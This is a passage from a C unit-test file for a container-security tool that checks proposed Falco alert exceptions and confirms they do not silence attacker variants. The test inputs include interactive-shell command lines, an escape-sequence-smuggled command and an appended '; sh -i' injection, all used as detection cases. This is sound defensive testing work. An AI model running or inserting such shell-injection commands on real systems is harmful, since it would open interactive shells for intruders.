	assert_int_equal(o.refusal, TUNING_INTERACTIVE);
	f = ic->f[0];
	f.stdout_type = "ipv4";
	tuning_offer(&ic->v, &f, 1, &ctx, &o);
	assert_int_equal(o.refusal, TUNING_NETWORK_STDIO);
	f = ic->f[0];
	f.cmdline = "bash -il";
	tuning_offer(&ic->v, &f, 1, &ctx, &o);
	assert_int_equal(o.refusal, TUNING_BARE_SHELL);
	f = ic->f[0];
	f.truncated = true;
	tuning_offer(&ic->v, &f, 1, &ctx, &o);
	assert_int_equal(o.refusal, TUNING_INEXACT);
	f = ic->f[0];
	f.cmdline = "bash -c lsmod\x1b[2J";
	tuning_offer(&ic->v, &f, 1, &ctx, &o);
	assert_int_equal(o.refusal, TUNING_INEXACT);
	f = ic->f[0];
	memset(&ctx, 0, sizeof(ctx));
	tuning_offer(&ic->v, &f, 1, &ctx, &o);
	assert_int_equal(o.refusal, TUNING_NO_CONTEXT);
	f.n_rules = 0;
	tuning_offer(&ic->v, &f, 1, &ic->ctx, &o);
	assert_int_equal(o.refusal, TUNING_NO_RULE);
	assert_true(tuning_is_bare_shell("/bin/bash --login -i"));
	assert_true(tuning_is_bare_shell("sh -c"));
	assert_false(tuning_is_bare_shell("sh -c true"));
	assert_false(tuning_is_bare_shell("sh /entrypoint.sh"));
	assert_string_equal(tuning_refusal_text(TUNING_OFFERED), "");
	assert_has(tuning_refusal_text(TUNING_INTERACTIVE), "interactive shell");
	free(ic);
}

/*
 * Load the offered YAML after the shipped rules and evaluate events: the
 * exact event is silenced for the rules named, and every variant an
 * attacker could try (a terminal, another parent, image or namespace, more
 * after the command, a bare shell) still alerts.
 */
struct loaded {
	char dir[256], path[300];
	struct ruleset *rs;
};

static void load_with(struct loaded *l, const char *yaml)
{
	const char *paths[2] = {RULES_FILE, l->path};
	struct rules_options opt = {.min_priority = PRIO_DEBUG};
	struct ss_error err;
	FILE *f;

	assert_int_equal(tmpdir_make(l->dir, sizeof(l->dir), "ss_verdict"), 0);
	snprintf(l->path, sizeof(l->path), "%s/tuning.yaml", l->dir);
	f = fopen(l->path, "w");
	assert_non_null(f);
	fputs(yaml, f);
	fclose(f);
	if (ruleset_load(paths, 2, &opt, &l->rs, &err, NULL))
		fail_msg("%s:%d:%d: %s\n%s", err.file, err.line, err.col, err.msg, yaml);
}

static bool fires(const struct ruleset *rs, const struct exec_event *ev, const char *rule)
{
	const struct rule *m[16];
	size_t n = ruleset_eval(rs, ev, m, 16), i;

	for (i = 0; i < n; i++)
		if (!strcmp(rule_name(m[i]), rule))
			return true;
	return false;
}

static void test_offered_exception_is_narrow(void **state)
{
	/* stdio fields are the kernel helper's: leave them out of the loaded snippet */
	struct cmd_spec c = seed_cmd;
	struct incident_case *ic;
	struct exec_event *v;
	struct loaded l = {0};
	struct mdbuf y;
	const char *ev_rules[] = {R_PROBE, R_SHELL};
	size_t r;

	(void)state;
	c.stdin_type = c.stdout_type = NULL;
	ic = run(&loader_pod, &c, 1);
	assert_int_equal(ic->offer.refusal, TUNING_OFFERED);
	mdbuf_init(&y, 0);
	assert_int_equal(tuning_yaml(&ic->offer, ic->f, 1, &ic->ctx, &y), 0);
	assert_has(mdbuf_str(&y), "exceptions: append");
	assert_has(mdbuf_str(&y),
		   "\"bash -c /usr/sbin/lsmod | cut -d' ' -f1 | grep -qx \\\"falco\\\"\"");
	assert_null(strstr(mdbuf_str(&y), "startswith"));
	v = malloc(sizeof(*v));
	assert_non_null(v);
	/* without the snippet the exact event fires both rules */
	load_with(&l, "- required_engine_version: 0.26.0\n");
	*v = ic->b[0].ev;
	for (r = 0; r < 2; r++)
		assert_true(fires(l.rs, v, ev_rules[r]));
	ruleset_free(l.rs);
	tmpdir_remove(l.dir);
	load_with(&l, mdbuf_str(&y));
	for (r = 0; r < 2; r++) {
		/* the exact event: silenced */
		*v = ic->b[0].ev;
		assert_false(fires(l.rs, v, ev_rules[r]));
		/* with a terminal */
		v->tty = 34816;
		assert_true(fires(l.rs, v, ev_rules[r]));
		/* another parent */
		*v = ic->b[0].ev;
		snprintf(v->ancestors[0].comm, sizeof(v->ancestors[0].comm), "runc");
		assert_true(fires(l.rs, v, ev_rules[r]));
		/* another image, or no namespace */
		*v = ic->b[0].ev;
		snprintf(v->container.image_repository, sizeof(v->container.image_repository),
			 "falcosecurity/falco-driver-loader-evil");
		assert_true(fires(l.rs, v, ev_rules[r]));
		*v = ic->b[0].ev;
		v->container.pod_namespace[0] = '\0';
		assert_true(fires(l.rs, v, ev_rules[r]));
		/* more appended to the command */
		*v = ic->b[0].ev;
		strcat(v->cmdline, "; sh -i");
		assert_true(fires(l.rs, v, ev_rules[r]));
	}
	/* a bare shell in the same container: its rules still fire */
	*v = ic->b[0].ev;
	snprintf(v->cmdline, sizeof(v->cmdline), "bash");
	v->args[0] = '\0';
	assert_true(fires(l.rs, v, R_SHELL));
	free(v);
	ruleset_free(l.rs);
	tmpdir_remove(l.dir);
	mdbuf_free(&y);
	free(ic);
}

/* A runtime's exec parent is runc or, a few microseconds later, its subreaper: both match. */
static void test_runtime_parent_exception(void **state)
{
	struct incident_case *ic = run(&db, &probe, 1);
	struct loaded l = {0};
	struct exec_event *v = malloc(sizeof(*v));
	struct mdbuf y;

	(void)state;
	assert_non_null(v);
	assert_int_equal(ic->offer.refusal, TUNING_OFFERED);
	mdbuf_init(&y, 0);
	assert_int_equal(tuning_yaml(&ic->offer, ic->f, 1, &ic->ctx, &y), 0);
	assert_has(mdbuf_str(&y), "comps: [=, =, =, in, =, =, =, =]");
	assert_has(mdbuf_str(&y), "[\"runc\", \"runc:[0:PARENT]\"");
	assert_has(mdbuf_str(&y), "\"conmon\"");
	ic->offer.fields[TF_STDIN_TYPE] = ic->offer.fields[TF_STDOUT_TYPE] = false;
	mdbuf_free(&y);
	mdbuf_init(&y, 0);
	assert_int_equal(tuning_yaml(&ic->offer, ic->f, 1, &ic->ctx, &y), 0);
	load_with(&l, mdbuf_str(&y));
	*v = ic->b[0].ev;
	assert_false(fires(l.rs, v, R_SHELL));
	snprintf(v->ancestors[0].comm, sizeof(v->ancestors[0].comm), "conmon");
	assert_false(fires(l.rs, v, R_SHELL));
	snprintf(v->ancestors[0].comm, sizeof(v->ancestors[0].comm), "bash");
	assert_true(fires(l.rs, v, R_SHELL));
	ruleset_free(l.rs);
	tmpdir_remove(l.dir);
	mdbuf_free(&y);
	free(v);
	free(ic);
}

/* Two identical commands and one rule: one value row, one exception per rule. */
static void test_yaml_rows_deduplicated(void **state)
{
	struct cmd_spec cmds[2] = {seed_cmd, seed_cmd};
	struct incident_case *ic = run(&loader_pod, cmds, 2);
	struct mdbuf y;
	const char *p, *s;
	int rows = 0;

	(void)state;
	assert_int_equal(ic->offer.refusal, TUNING_OFFERED);
	mdbuf_init(&y, 0);
	assert_int_equal(tuning_yaml(&ic->offer, ic->f, 2, &ic->ctx, &y), 0);
	s = mdbuf_str(&y);
	for (p = s; (p = strstr(p, "        - [")); p++)
		rows++;
	assert_int_equal(rows, 2); /* one row in each of the two rules' exceptions */
	assert_has(s, "fields: [container.image.repository, k8s.ns.name, container.name, "
		      "proc.pname, proc.cmdline, proc.tty, proc.stdin.type, proc.stdout.type]");
	assert_has(s, "name: shellsentry_falco_driver_loader_kmod_check_1");
	assert_has(s, ", 0, \"file\", \"pipe\"]");
	mdbuf_free(&y);
	/* nothing offered: no YAML */
	ic->offer.refusal = TUNING_NOT_VERIFIED;
	mdbuf_init(&y, 0);
	assert_int_equal(tuning_yaml(&ic->offer, ic->f, 2, &ic->ctx, &y), -EINVAL);
	mdbuf_free(&y);
	free(ic);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_seed_in_context_is_expected),
		cmocka_unit_test(test_seed_without_context_resembles),
		cmocka_unit_test(test_seed_replayed_elsewhere_is_suspicious),
		cmocka_unit_test(test_seed_in_pod_interactive_is_suspicious),
		cmocka_unit_test(test_apt_install_nmap_with_tty),
		cmocka_unit_test(test_podman_exec_it_sh),
		cmocka_unit_test(test_php_fpm_webshell),
		cmocka_unit_test(test_php_fpm_webshell_falco_alert),
		cmocka_unit_test(test_reverse_shell_by_stdio),
		cmocka_unit_test(test_network_stdio_outranks_expected),
		cmocka_unit_test(test_server_socket_stdio_not_shell),
		cmocka_unit_test(test_session_command_network_stdout),
		cmocka_unit_test(test_drift_and_fileless),
		cmocka_unit_test(test_attack_patterns),
		cmocka_unit_test(test_probe_verified_and_imitations),
		cmocka_unit_test(test_step_in_script),
		cmocka_unit_test(test_probe_session_steps),
		cmocka_unit_test(test_session_weighs_every_command),
		cmocka_unit_test(test_interactive_session),
		cmocka_unit_test(test_expected_then_unexplained),
		cmocka_unit_test(test_empty_and_no_kb),
		cmocka_unit_test(test_pattern_without_decidable_checks),
		cmocka_unit_test(test_kb_source_is_real_path),
		cmocka_unit_test(test_tuning_refusals),
		cmocka_unit_test(test_offered_exception_is_narrow),
		cmocka_unit_test(test_yaml_rows_deduplicated),
		cmocka_unit_test(test_runtime_parent_exception),
	};

	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
